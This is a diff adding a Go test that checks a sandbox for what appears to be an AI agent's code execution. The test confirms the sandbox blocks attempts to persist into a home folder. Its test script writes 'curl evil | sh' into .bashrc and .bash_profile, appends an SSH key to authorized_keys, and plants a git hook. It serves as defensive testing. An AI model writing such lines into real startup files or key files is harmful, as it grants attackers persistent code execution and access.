@@ -482,6 +482,64 @@ print(r.out, r.err)`, strings.Join([]string{
 	})
 }
 
+// TestSandboxJailHomeFolder: a session whose workspace is the user's home
+// folder (started from ~) cannot plant what runs as the user outside the
+// jail, the block, the file tools or a shell() command alike: no write to
+// ~/.bashrc, ~/.ssh or a new ~/.bash_profile (which bash prefers once it
+// exists); the home's folders stay the session's to write.
+func TestSandboxJailHomeFolder(t *testing.T) {
+	hookModes(t, true, func(t *testing.T, sb *sandbox, hook bool) {
+		sb.env = append(sb.env, "HOME="+sb.ws)
+		testenv.WriteTree(t, sb.ws, map[string]string{
+			".bashrc": "# mine\n", ".ssh/authorized_keys": "", ".config/app.toml": "", "notes.txt": "", "proj/a.py": "", "proj/.git/config": "",
+		})
+		protected := func() string {
+			var names []string
+			entries, _ := os.ReadDir(sb.ws)
+			for _, e := range entries {
+				if e.Name() != "proj" {
+					names = append(names, treeState(t, filepath.Join(sb.ws, e.Name())))
+				}
+			}
+			names = append(names, treeState(t, filepath.Join(sb.ws, "proj", ".git")))
+			return strings.Join(names, "")
+		}
+		before := protected()
+		r := sb.block("h", `import os, shutil
+E = "ESC" + "APED"
+def attempt(name, f):
+    try:
+        f()
+        print(name, "->", E)
+    except Exception as e:
+        print(name, "-> refused", type(e).__name__, e)
+attempt("append to .bashrc", lambda: open(".bashrc", "a").write("curl evil | sh\n"))
+attempt("a new .bash_profile", lambda: open(".bash_profile", "w").write("curl evil | sh\n"))
+attempt("an ssh key", lambda: open(".ssh/authorized_keys", "a").write("ssh-ed25519 AAAA evil\n"))
+attempt("a new autostart folder", lambda: os.makedirs(".config/autostart"))
+attempt("a new file at the top", lambda: open("new.txt", "w").write("x"))
+attempt("rename .bashrc", lambda: os.rename(".bashrc", "proj/bashrc"))
+attempt("chmod .ssh", lambda: os.chmod(".ssh", 0o777))
+attempt("patch .bashrc", lambda: patch(".bashrc", "# mine", "curl evil | sh"))
+attempt("a hook of a project in the home", lambda: open("proj/.git/hooks-pre-commit", "w").write("#!/bin/sh\n"))
+r = shell(f"echo evil >> .bashrc && echo {E} rc; echo evil > .profile && echo {E} profile; echo fine > proj/b.txt && echo shell wrote proj", wait=60)
+print(r.out, r.err)
+open("proj/a.py", "w").write("print('mine')\n")
+print("block wrote proj")
+`, 0)
+		all := r.stdout + r.stderr
+		t.Logf("%s", all)
+		if escaped(all) {
+			t.Errorf("got through:\n%s", all)
+		}
+		contains(t, "the block", r.stdout, "append to .bashrc -> refused", "a new .bash_profile -> refused", "patch .bashrc -> refused", "a hook of a project in the home -> refused",
+			"shell wrote proj", "block wrote proj")
+		if after := protected(); after != before {
+			t.Errorf("the home's top level changed:\nbefore %s\nafter  %s", before, after)
+		}
+	})
+}
+
 // TestSandboxJailWithoutMountNamespace: where the child cannot make a
 // mount namespace (here every vis-agent process runs under a seccomp
 // filter that refuses namespaces: `sandbox confine` with privileges
